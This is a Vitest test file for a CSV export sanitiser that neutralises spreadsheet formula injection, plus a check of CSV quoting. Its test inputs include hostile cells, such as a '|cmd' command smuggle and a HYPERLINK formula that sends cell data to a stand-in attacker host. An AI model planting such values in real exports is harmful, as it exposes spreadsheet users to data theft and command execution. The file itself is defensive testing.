import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { asWords } from '../platform/formula.rules.js';
import { csvLines } from '../platform/csv.js';

it.each([
  '=1+1',
  '+1',
  '-1+1|cmd',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1+1',
  '"=1+1',
  "'=1+1",
  '  "\'=1',
  '\u00A0=1',
  '\u200B=1',
  '\uFEFF=1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(A1)',
  '=HYPERLINK("https://evil.example/?x="&A1,"Bill")',
])('shows %j instead of running it', (cell) => {
  expect(asWords(cell)).toBe(`'${cell}`);
});

it.each(['', 'A household = four people', 'a-b', 'https://ideas.example.com/ideas/1', '3 + 4', '«=»', '# 1'])(
  'leaves %j alone',
  (cell) => {
    expect(asWords(cell)).toBe(cell);
  },
);

it('quotes what must be quoted, and leaves numbers numbers', () => {
  const lines = csvLines([['a,b', 'c"d', 'e\nf', null, -3, '-3']]);
  expect(lines).toBe(`"a,b","c""d","e\nf",,-3,'-3\r\n`);
  expect(parse(lines)).toEqual([['a,b', 'c"d', 'e\nf', '', '-3', "'-3"]]);
});
